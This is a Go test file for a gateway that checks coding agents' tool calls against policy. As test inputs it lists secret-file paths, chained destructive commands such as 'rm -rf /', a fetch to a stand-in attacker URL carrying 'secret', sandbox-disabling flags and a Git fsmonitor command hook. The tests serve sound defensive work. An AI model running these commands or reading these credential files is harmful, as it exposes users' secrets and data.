package deploy_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"testing"
	"time"

	"github.com/callgate/callgate/app"
	"github.com/callgate/callgate/configs"
	"github.com/callgate/callgate/gateway"
	"github.com/callgate/callgate/internal/testkit/corpora"
	"github.com/callgate/callgate/internal/testkit/facetest"
	"github.com/callgate/callgate/ratelimit"
	"github.com/callgate/callgate/registry"
	"github.com/callgate/callgate/upstream"
)

// judgedCall is a call of a coding agent, and the code with which it is refused; empty: it passes.
type judgedCall struct{ tool, arguments, code string }

func TestCodingAgentsLoad(t *testing.T) {
	loads(t, absolute(t, "claude-code/callgate.yaml"))
	if app.Speaks(upstream.ResponsesWire) {
		loads(t, absolute(t, "codex/callgate.yaml"))
	}
	loads(t, absolute(t, "claude-code/hook.yaml"))
	loads(t, absolute(t, "codex/hook.yaml"))
}

// agentsKernel is the configuration of an agent, whose project is an empty folder, with a request that
// brings these tools.
func agentsKernel(t *testing.T, agent string, tools []registry.Brought) (admission *gateway.Admission, project string) {
	t.Helper()
	return kernelOf(t, agent, "callgate.yaml", "policy.csv", tools)
}

func kernelOf(t *testing.T, agent, main, policy string, tools []registry.Brought) (admission *gateway.Admission, project string) {
	t.Helper()
	dir, project := copyTree(t, agent), t.TempDir()
	rewrite(t, filepath.Join(dir, "workspaces.yaml"), "/home/me/project", project)
	if agent != "acp" { // whose commands have words that are marked as paths
		rewrite(t, filepath.Join(dir, policy), "/home/me/project", project)
	}
	c, err := configs.Load(filepath.Join(dir, main))
	if err != nil {
		t.Fatal(err)
	}
	k, err := gateway.New(&gateway.Config{
		Output: c.Output, Tools: c.Tools, Policy: c.Policy, Workspaces: c.Workspaces, Agents: c.Agents, Limits: &ratelimit.Limits{Replicas: 1},
		Defaults: gateway.Subject(c.Defaults), Digest: c.Digest,
	}, gateway.Deps{Limiter: ratelimit.NewLocal(time.Now), Journal: &facetest.Journal{}})
	if err != nil {
		t.Fatal(err)
	}
	a, err := k.Admit(context.Background(), gateway.Request{})
	if err != nil {
		t.Fatal(err)
	}
	var brought []registry.Brought
	for _, b := range tools {
		if e, known := c.Tools.Lookup(b.Name); !known {
			brought = append(brought, b)
		} else if !c.Tools.Agrees(e, b.InputSchema) {
			t.Errorf("%s: tools.yaml says something else than the agent", b.Name)
		}
	}
	a, leftOut, _, err := a.WithTools(brought)
	if err != nil || len(leftOut) > 0 {
		t.Fatal(err, leftOut)
	}
	return a, project
}

// requestTools are the tools with a schema in a recorded request.
func requestTools(t *testing.T, elements ...string) []registry.Brought {
	t.Helper()
	data, err := os.ReadFile(corpora.Testdata(append([]string{"agents"}, elements...)...))
	if err != nil {
		t.Fatal(err)
	}
	var request struct {
		Tools []struct {
			Name        string
			InputSchema json.RawMessage `json:"input_schema"`
			Parameters  json.RawMessage
		}
	}
	if err := json.Unmarshal(data, &request); err != nil {
		t.Fatal(err)
	}
	var all []registry.Brought
	for _, tool := range request.Tools {
		if tool.Name != "" && tool.InputSchema != nil {
			all = append(all, registry.Brought{Name: tool.Name, InputSchema: tool.InputSchema})
		}
		if tool.Name != "" && tool.Parameters != nil {
			all = append(all, registry.Brought{Name: tool.Name, InputSchema: tool.Parameters})
		}
	}
	return all
}

func judgeCalls(t *testing.T, a *gateway.Admission, list []judgedCall) {
	t.Helper()
	for _, c := range list {
		name, known := a.ToolName(c.tool)
		if !known {
			name = c.tool
		}
		d := a.Judge(context.Background(), gateway.ModeEnforce, gateway.Input{Native: &gateway.NativeCall{Name: name, Wire: c.tool, Arguments: []byte(c.arguments)}})
		code := ""
		if refused := d.Refusal(); refused != nil {
			code = string(refused.Code)
		}
		if d.Release(); code != c.code {
			t.Errorf("%s %s: found %q, expected %q: %v", c.tool, c.arguments, code, c.code, d.Refusal())
		}
	}
}

// argument writes arguments with one text.
func argument(name, value string) string {
	b, _ := json.Marshal(map[string]string{name: value})
	return string(b)
}

const (
	denied  = "permission_denied"
	outside = "boundary_violation"
)

// secretFiles are below the project, for every tool that reads.
var secretFiles = []string{
	".env", ".env-prod", "a/.env.local", ".ENV", ".npmrc", "a/.Netrc", ".git-credentials", ".pgpass", ".docker/config.json", ".kube/config", ".ssh/id_rsa",
	".AWS/credentials", ".gnupg/x", ".config/gcloud/credentials.db", ".config/./gcloud/x", "keys/id_ed25519", "a/server.pem", "server.key", "prod.env", "a/app.env.local", ".git/config", "secrets.yaml", "k8s/app-secrets.yml", "secret.json", "secrets.prod.toml",
	"credentials.json", "client_secret.json", ".bash_history", ".zsh_history",
}

// settingsOfPrograms are below the project, for every tool that writes.
var settingsOfPrograms = []string{
	"mise.toml", "mise.local.toml", "a/mise.production.local.toml", "mise/config.toml", ".config/mise/config.toml", ".config/mise/conf.d/x.toml", ".yarn/releases/yarn.cjs", ".yarnrc.yml",
	".pnpmfile.cjs", "bunfig.toml", "opencode.json", "opencode.jsonc", ".opencode/plugin/x.js", ".gemini/settings.json", ".qwen/settings.json",
}

// judgeSecrets judges the calls that read each of the secretFiles. A name that is only like them, such as
// environment.go, passes: the tables of the agents have those.
func judgeSecrets(t *testing.T, a *gateway.Admission, calls func(path string) []judgedCall) {
	t.Helper()
	for _, path := range secretFiles {
		judgeCalls(t, a, calls(path))
	}
}

func link(t *testing.T, to, at string) {
	t.Helper()
	if err := os.Symlink(to, at); err != nil {
		t.Fatal(err)
	}
}

// TestOneListOfSecrets: the configurations name the same files, each once.
func TestOneListOfSecrets(t *testing.T) {
	list := regexp.MustCompile(`t\.matches\(r'[^']*'\)`)
	for _, agent := range []string{"claude-code/policy.csv", "codex/policy.csv", "codex/hook-policy.csv", "acp/policy.csv"} {
		policy, err := os.ReadFile(agent)
		first, _ := os.ReadFile(filepath.Join("claude-code", "policy.csv"))
		if found := list.FindAll(policy, -1); err != nil || len(found) != 1 || !bytes.Equal(found[0], list.Find(first)) || bytes.Count(policy, []byte("gnupg")) != 1 {
			t.Errorf("%s: found %q, expected the list of claude-code once: %v", agent, found, err)
		}
	}
}

// TestEmbeddedRepository: Git runs no program of a folder that looks like a repository where it is told so by the
// variables that docs/coding-agents.md shows, and runs it else: the policies refuse to write one.
func TestEmbeddedRepository(t *testing.T) {
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("needs git")
	}
	page, err := os.ReadFile("../docs/coding-agents.md")
	if err != nil {
		t.Fatal(err)
	}
	guard := regexp.MustCompile(`GIT_CONFIG_[A-Z]+(?:_[0-9])?=\S+`).FindAllString(string(page), -1)
	ran := func(environment ...string) bool {
		dir := t.TempDir()
		proof := filepath.Join(dir, "ran")
		for name, content := range map[string]string{
			"sub/HEAD": "ref: refs/heads/main\n", "sub/objects/keep": "", "sub/refs/keep": "",
			"sub/config": "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = \"touch " + proof + "; false\"\n",
		} {
			path := filepath.Join(dir, name)
			if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(content), 0o600)); err != nil {
				t.Fatal(err)
			}
		}
		status := exec.Command(git, "status")
		status.Dir = filepath.Join(dir, "sub")
		status.Env = append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "GIT_CONFIG_NOSYSTEM=1"}, environment...)
		_ = status.Run() // Git may refuse the folder
		_, err := os.Stat(proof)
		return err == nil
	}
	if !ran() {
		t.Skip("this Git runs nothing of an embedded repository")
	}
	if len(guard) == 0 || ran(guard...) {
		t.Errorf("Git ran the program of an embedded repository with %q", guard)
	}
}

func TestClaudeCodePolicy(t *testing.T) {
	a, project := agentsKernel(t, "claude-code", append(requestTools(t, "claude-code", "first.json"),
		registry.Brought{Name: "Glob", InputSchema: []byte(`{"type":"object","properties":{"pattern":{"type":"string","description":"The glob pattern to match files against"},"path":{"type":"string","description":"The directory to search in. Without it, the current working directory."}},"required":["pattern"],"additionalProperties":false}`)},
		registry.Brought{Name: "mcp__github__get_issue", InputSchema: []byte(`{"type":"object","properties":{"n":{"type":"integer"}}}`)},
	))
	bash := func(command, code string) judgedCall { return judgedCall{"Bash", argument("command", command), code} }
	read := func(path, code string) judgedCall { return judgedCall{"Read", argument("file_path", path), code} }
	write := func(path, code string) judgedCall {
		b, _ := json.Marshal(map[string]string{"file_path": path, "content": "x"})
		return judgedCall{"Write", string(b), code}
	}
	grep := func(path, code string) judgedCall {
		return judgedCall{"Grep", `{"pattern":".","path":"` + path + `"}`, code}
	}
	link(t, "/etc", filepath.Join(project, "link"))
	judgeSecrets(t, a, func(path string) []judgedCall {
		return []judgedCall{
			read(project+"/"+path, denied), read(path, denied), grep(project+"/"+path, denied), {"Grep", `{"pattern":".","glob":"**/` + path + `"}`, denied},
			{"Glob", argument("pattern", path), denied}, bash("cat "+path, denied), bash("head -n 5 a.go "+path, denied), bash("git show HEAD:"+path, denied), bash("git show :"+path, denied),
			bash("git diff "+path, denied), bash("git log -p "+path, denied), bash("cat "+project+"/"+path, denied), write(project+"/"+path, denied),
		}
	})
	for _, name := range append(slices.Clone(settingsOfPrograms),
		"HEAD", "sub/HEAD", "sub/head", "sub/config", "config", "sub/config.worktree", "sub/commondir", "sub/.git", ".git/objects/x", ".GIT./config", "GIT~1/config", ".gitattributes", "a/.gitattributes",
		".gitmodules", ".gitconfig", ".githooks/pre-commit", ".ripgreprc", ".npmrc", ".husky/x", ".envrc", ".claude/settings.json", ".vscode/tasks.json", ".g\u200bit/config", "HEAD::$DATA",
	) {
		judgeCalls(t, a, []judgedCall{write(project+"/"+name, denied)})
	}
	for _, name := range []string{"sub/HEAD/.", "sub/HEAD/", "sub/HEAD//", "sub/HEAD/x/..", "sub/HEAD/x/../../config", "sub/HEAD\u00a0", "sub/config\u3000"} {
		judgeCalls(t, a, []judgedCall{write(project+"/"+name, denied)})
	}
	for _, path := range []string{"~", "~/x", " ~/x", "\u00a0~", "~root/x"} {
		judgeCalls(t, a, []judgedCall{read(path, denied), grep(path, denied), write(path, denied), {"Glob", `{"pattern":"*","path":"` + path + `"}`, denied}, {"Glob", argument("pattern", path), denied}})
	}
	judgeCalls(t, a, []judgedCall{
		read(project+"/main.go", ""), read("/usr/include/stdio.h", outside), read("/home/me/.ssh/id_ed25519", denied), read("/proc/self/environ", denied), read("/proc/12/environ", denied), read("/etc/shadow", denied), read("/etc/passwd", outside), read(project+"/link/passwd", outside), read(project+"/.env", denied),
		read(project+"/.env.local", denied), grep("/home/me/.ssh", denied), grep("/home/me/src", outside), grep(project+"/src", ""), grep(project+"/link", outside), {"Grep", `{"pattern":"process\\.env","glob":"*.ts","-n":true}`, ""},
		{"Glob", `{"pattern":"*","path":"/root"}`, outside}, write(project+"/src/objects/config.go", ""), write(project+"/premise/config.toml", ""), write(project+"/promise.toml", ""), write(project+"/config/app.yaml", ""), write(project+"/.github/workflows/ci.yml", ""),
		read(project+"/environment.go", ""), read(project+"/keys.go", ""), read(project+"/secrets.go", ""), read(project+"/src/app.environment.ts", ""), read(project+"/package.json", ""), read(project+"/docs/history.md", ""),
		{"Glob", `{"pattern":"/etc/*"}`, denied}, {"Glob", `{"pattern":" /etc/*"}`, denied}, {"Glob", `{"pattern":"../*"}`, denied}, {"Glob", `{"pattern":"a/../../*"}`, denied}, {"Glob", `{"pattern":"{..,a}/*"}`, denied}, {"Glob", argument("pattern", project+"/**/*.go"), ""},
		{"Glob", `{"pattern":"**/*.go"}`, ""}, {"Glob", `{"pattern":"*","sort":1}`, "unexpected_argument"},
		write(project+"/a/b.go", ""), write("/etc/passwd", outside), write(project+"/../x", outside), write(project+"/.git/hooks/pre-commit", denied),
		write(project+"/.claude/settings.json", denied), write(project+"/x/../.GIT/config", denied), write(project+"/.gitignore", ""), write(project+"/.mcp.json", denied),
		{"Edit", `{"file_path":"` + project + `/main.go","old_string":"a","new_string":"b","replace_all":true}`, ""},
		{"Edit", `{"file_path":"/home/me/.bashrc","old_string":"a","new_string":"b"}`, outside},
		{"Edit", `{"file_path":"` + project + `/main.go","old_string":"a"}`, "missing_argument"},
		{"NotebookEdit", `{"notebook_path":"` + project + `/a.ipynb","new_source":"x"}`, ""}, {"NotebookEdit", `{"notebook_path":"/a.ipynb","new_source":"x"}`, outside},
		bash("cat "+project+"/a.go", ""), bash("ls "+project, ""), bash("cat /etc/passwd", denied), bash("cat "+project+"/../x", denied), bash("cat a/../../x", denied), bash("cat ..", denied),
		bash("cat /proc/self/environ", denied), bash("git diff /etc/passwd /dev/null", denied), bash("git log HEAD~3..HEAD", ""), bash("git log main..", ""), bash("git show HEAD:src/environment.go", ""),
		bash("git --git-dir=sub status", denied), bash("git -C sub status", denied), bash("GIT_DIR=sub git status", denied), bash("git diff --ext-diff", denied), bash("git log --textconv", denied), bash("git -P log", denied),
		bash("git status", ""), bash("git diff --stat HEAD~1", ""), bash("git log -n 5 --oneline -- main.go", denied), bash("git log -n 5 --oneline main.go", ""), bash("ls -la src", ""),
		bash("git diff --output=/etc/x", denied), bash("git push", denied), bash("git -c core.pager=x log", denied), bash("git status; rm -rf /", denied), bash("git status && ls", denied),
		bash("ls | sh", denied), bash("ls > x", denied), bash("cat $HOME/x", denied), bash("cat `x`", denied), bash("ls\nrm x", denied), bash("ls\n", denied), bash("cat 'a b'", denied),
		bash("cat /home/me/.ssh/id_rsa", denied), bash("cat .env", denied), bash("rm -rf .", denied), bash("go test ./...", denied), bash("", denied), bash(" ls", denied), bash("lsblk", denied),
		{"Bash", `{"command":"ls","dangerouslyDisableSandbox":true}`, denied}, {"Bash", `{"command":"ls","dangerouslyDisableSandbox":false,"timeout":5000}`, ""},
		{"TaskCreate", `{"subject":"a","description":"b","metadata":{"k":1}}`, ""}, {"TaskList", `{}`, ""}, {"Agent", `{"description":"a","prompt":"b"}`, ""},
		{"WebFetch", `{"url":"https://pkg.go.dev/fmt","prompt":"x"}`, ""}, {"WebFetch", `{"url":"https://evil.example/?q=secret","prompt":"x"}`, denied},
		{"WebFetch", `{"url":"https://pkg.go.dev@evil.example/","prompt":"x"}`, denied}, {"WebFetch", `{"url":"https://pkg.go.dev.evil.example/","prompt":"x"}`, denied},
		{"WebFetch", `{"url":"http://pkg.go.dev/fmt","prompt":"x"}`, denied},
		{"WebSearch", `{"query":"x"}`, denied}, {"CronCreate", `{"cron":"* * * * *","prompt":"x"}`, denied}, {"Workflow", `{"name":"x"}`, denied},
		{"mcp__github__get_issue", `{"n":1}`, denied}, {"mcp__github__delete", `{}`, "unknown_tool"},
	})
}

func TestCodexPolicy(t *testing.T) {
	tools := append(requestTools(t, "codex", "functions.json"),
		registry.Brought{Name: "apply_patch", InputSchema: []byte(`{"type":"object","required":["input"],"properties":{"input":{"type":"string"}}}`)},
		registry.Brought{Name: "update_plan", InputSchema: []byte(`{"type":"object","properties":{"plan":{"type":"array","items":{"type":"string"}}}}`)},
		registry.Brought{Name: "shell", InputSchema: []byte(`{"type":"object","required":["command"],"properties":{"command":{"type":"array","items":{"type":"string"}},"workdir":{"type":"string"},"with_escalated_permissions":{"type":"boolean"}}}`)},
	)
	a, project := agentsKernel(t, "codex", tools)
	command := func(cmd, code string) judgedCall { return judgedCall{"exec_command", argument("cmd", cmd), code} }
	patch := func(lines, code string) judgedCall {
		return judgedCall{"apply_patch", argument("input", "*** Begin Patch\n"+lines+"\n*** End Patch"), code}
	}
	link(t, "/etc", filepath.Join(project, "link"))
	judgeSecrets(t, a, func(path string) []judgedCall {
		return []judgedCall{
			command("cat "+path, denied), command("rg x "+path, denied), command("rg --files "+path, denied), command("git show HEAD:"+path, denied), command("git show :"+path, denied), command("git diff "+path, denied),
			command("tail -n 5 "+project+"/"+path, denied), {"shell", `{"command":["bash","-lc","head ` + path + `"]}`, denied}, {"view_image", argument("path", path), denied},
		}
	})
	for _, name := range append(slices.Clone(settingsOfPrograms),
		"HEAD", "sub/HEAD", "sub/head ", "sub/config", "sub/config.worktree", "sub/commondir", "sub/.git", "a/.gitattributes", ".gitmodules", ".gitconfig", ".githooks/x", ".ripgreprc", ".npmrc", ".mise.toml", "sub\\HEAD", ".g\u200bit/config",
	) {
		judgeCalls(t, a, []judgedCall{patch("*** Add File: "+name+"\n+x", denied), patch("*** Update File: a\n*** Move to: "+name, denied), patch("*** Add File: "+name+"\r\n+x", denied)})
	}
	for _, line := range []string{
		"*** Add File: sub/HEAD/.", "*** Add File: sub/HEAD/", "*** Add File: sub/HEAD\u00a0", "*** Add File: sub/config\v", "*** Add File: sub/HEAD\u0085", "*** Add File: sub/HEAD/. \r",
		"\u00a0*** Add File: /etc/x", "\v*** Add File: .git/hooks/x", "\u3000*** Delete File: .git/config", "\u0085*** Update File: a/.npmrc",
	} {
		judgeCalls(t, a, []judgedCall{patch(line+"\n+x", denied), patch("*** Add File: a\n+x\n"+line+"\n+x", denied)})
	}
	judgeCalls(t, a, []judgedCall{
		{"view_image", `{"path":"~/x.png"}`, denied}, {"view_image", `{"path":"\u00a0~/x.png"}`, denied}, {"exec_command", `{"cmd":"ls","workdir":"~"}`, denied}, patch("*** Update File: a\n@@\n-*** Add File: /etc/x\n+*** Add File: /etc/y", ""),
		{"exec_command", `{"cmd":"git status","workdir":"` + project + `/sub"}`, denied}, {"exec_command", `{"cmd":"git status","workdir":"` + project + `"}`, ""}, {"exec_command", `{"cmd":"git log","tty":true}`, denied},
		{"view_image", `{"path":"/etc/x.png"}`, outside}, {"view_image", `{"path":"link/x.png"}`, outside}, command("cat "+project+"/a.go", ""), command("cat /etc/passwd", denied), command("cat a/../../x", denied),
		command("cat /proc/self/environ", denied), command("git diff /etc/passwd /dev/null", denied), command("rg -z x a.gz", denied), command("git log main..HEAD", ""), command("rg process.env src", ""),
		{"shell", `{"command":["bash","-lc","cat /etc/passwd"]}`, denied}, {"shell", `{"command":["bash","-lc","cat ../x"]}`, denied},
		patch("*** Add File: src/HEAD.go\n+config\n+.npmrc", ""), patch("*** Add File: config/app.yaml\n+a", ""), patch("*** Update File: .gitignore\n@@\n+.env", ""),
		command("git status", ""), command("rg -n main src", ""), command("cat notes.md", ""), command("sed -n 1,5p a", denied), command("cat a; rm b", denied), command("rg --pre sh x", denied),
		command("cat .env", denied), command("apply_patch <<EOF", denied), command("go test ./...", denied),
		{"exec_command", `{"cmd":"ls","workdir":"` + project + `/src"}`, ""}, {"exec_command", `{"cmd":"ls","workdir":"/etc"}`, outside},
		{"exec_command", `{"cmd":"ls","sandbox_permissions":"use_default","yield_time_ms":1000}`, ""}, {"exec_command", `{"cmd":"ls","sandbox_permissions":"require_escalated"}`, denied},
		{"exec_command", `{"cmd":"ls","shell":"/tmp/sh"}`, denied},
		{"shell", `{"command":["bash","-lc","git status"]}`, ""}, {"shell", `{"command":["bash","-lc","git status; rm x"]}`, denied}, {"shell", `{"command":["rm","x"]}`, denied},
		{"shell", `{"command":["bash","-lc","cat .env"]}`, denied}, {"shell", `{"command":["bash","-lc","ls"],"workdir":"/"}`, denied}, {"shell", `{"command":["bash","-lc","ls"],"with_escalated_permissions":true}`, denied},
		patch("*** Add File: src/a.go\n+package a", ""), patch("*** Update File: notes.md\n@@\n-a\n+see file: /etc/passwd", ""), patch("*** Add File: /etc/x\n+a", denied),
		patch("*** Add File: ~/x\n+a", denied), patch("*** Update File: a/../../x\n+a", denied), patch("*** Delete File: .git/config", denied), patch("*** Add File: sub/.codex/config.toml\n+a", denied),
		patch("*** Update File: a\n*** Move to: /etc/x\n", denied), patch("*** Add File: a\n+x\n  ***  ADD FILE :/x\n+a", denied), patch("*** Add File: C:\\x\n+a", denied),
		{"update_plan", `{"plan":["a"]}`, ""}, {"view_image", `{"path":"a.png"}`, ""}, {"get_goal", `{}`, ""}, {"write_stdin", `{"session_id":1,"chars":"rm -rf /\n"}`, denied},
	})
	// The API's own tool states one file.
	own, _ := agentsKernel(t, "codex", []registry.Brought{{Name: "apply_patch", InputSchema: []byte(`{"type":"object","required":["type","path"],"properties":{"type":{"type":"string"},"path":{"type":"string"},"diff":{"type":"string"}}}`)}})
	judgeCalls(t, own, []judgedCall{
		{"apply_patch", `{"type":"update_file","path":"src/a.go","diff":"x"}`, ""}, {"apply_patch", `{"type":"update_file","path":"/etc/x","diff":"x"}`, denied},
		{"apply_patch", `{"type":"delete_file","path":"../x"}`, denied}, {"apply_patch", `{"type":"create_file","path":".git/hooks/x","diff":"x"}`, denied}, {"apply_patch", `{"type":"create_file","path":"sub/HEAD","diff":"x"}`, denied},
		{"apply_patch", `{"type":"create_file","path":"a/.gitattributes","diff":"x"}`, denied}, {"exec_command", `{"cmd":"ls"}`, ""},
	})
}

// TestHookPolicies: at the hooks, where no request brings a schema, the tools of everyday work pass, and what the policy denies does not.
func TestHookPolicies(t *testing.T) {
	a, project := kernelOf(t, "claude-code", "hook.yaml", "policy.csv", nil)
	judgeCalls(t, a, []judgedCall{
		{"Read", argument("file_path", project+"/a"), ""}, {"Read", argument("file_path", "/etc/passwd"), outside}, {"Read", argument("file_path", project+"/.env"), denied},
		{"Edit", `{"file_path":"` + project + `/a","old_string":"a","new_string":"b","replace_all":false}`, ""},
		{"Bash", `{"command":"git status","description":"Look"}`, ""}, {"Bash", argument("command", "rm -rf ."), denied}, {"Bash", `{"command":"ls","x":1}`, "unexpected_argument"},
		{"TaskCreate", `{"subject":"a","description":"b"}`, ""}, {"Agent", `{"description":"a","prompt":"b"}`, ""}, {"Skill", `{"skill":"x"}`, ""},
		{"WebFetch", `{"url":"https://pkg.go.dev/fmt","prompt":"x"}`, ""}, {"WebFetch", `{"url":"https://evil.example/","prompt":"x"}`, denied}, {"WebSearch", `{"query":"x"}`, "unknown_tool"},
	})
	a, project = kernelOf(t, "codex", "hook.yaml", "hook-policy.csv", nil)
	for _, name := range settingsOfPrograms {
		judgeCalls(t, a, []judgedCall{{"apply_patch", argument("command", "*** Begin Patch\n*** Add File: "+name+"\n+x\n*** End Patch\n"), denied}})
	}
	bash := func(command, code string) judgedCall { return judgedCall{"Bash", argument("command", command), code} }
	patch := func(lines, code string) judgedCall {
		return judgedCall{"apply_patch", argument("command", "*** Begin Patch\n"+lines+"\n*** End Patch\n"), code}
	}
	judgeSecrets(t, a, func(path string) []judgedCall {
		return []judgedCall{bash("cat "+path, denied), bash("head -n 5 "+project+"/"+path, denied)}
	})
	judgeCalls(t, a, []judgedCall{
		bash("cat notes.md", ""), bash("rg -n main src", ""), bash("cat "+project+"/a.go", ""), bash("cat /etc/passwd", denied), bash("cat ../x", denied), bash("git status", denied), bash("rg --pre sh x", denied),
		bash("cat a; rm b", denied), bash("rg -z x a.gz", denied), bash("apply_patch <<EOF", denied), {"Bash", `{"command":"ls","workdir":"/"}`, "unexpected_argument"},
		patch("*** Add File: src/a.go\n+see .env and /etc/passwd", ""), patch("*** Add File: /etc/x\n+a", denied), patch("*** Update File: a/../../x\n+a", denied), patch("*** Add File: sub/HEAD\n+a", denied),
		patch("*** Delete File: .git/config", denied), patch("\u00a0*** Add File: /etc/x\n+a", denied), patch("*** Update File: a\n*** Move to: sub/config", denied),
		{"exec_command", argument("cmd", "ls"), "unknown_tool"},
	})
}

// TestHookSettings: what the agents are set up with is what the program prints.
func TestHookSettings(t *testing.T) {
	for file, agent := range map[string]string{"claude-code/managed-settings.json": "claude-code", "codex/requirements.toml": "codex"} {
		if o := callgate(t, "", "hook", "install", agent, "--managed"); o.code != 0 || o.stdout != text(t, file) {
			t.Errorf("%s: expected what `callgate hook install %s --managed` prints:\n%s", file, agent, o.stdout)
		}
	}
}

// TestCodingAgentsUpstreams: each agent's face is served, its tools come with the requests, and
// nothing of the provider is allowed.
func TestCodingAgentsUpstreams(t *testing.T) {
	for agent, c := range map[string]struct {
		model string
		wire  upstream.Wire
	}{"claude-code": {"claude-fable-5-1", upstream.MessagesWire}, "codex": {"gpt-5.5", upstream.ResponsesWire}} {
		loaded, err := configs.Load(absolute(t, filepath.Join(agent, "callgate.yaml")))
		if err != nil {
			t.Fatal(err)
		}
		route, ok := loaded.Upstreams.Lookup(c.model)
		if !ok || !route.Speaks(c.wire) || route.Rules.Tools != upstream.FromRequest || len(route.Rules.Messages.ServerTools)+len(route.Rules.Responses.HostedTools) > 0 {
			t.Errorf("%s: found %+v", agent, route)
		}
	}
}
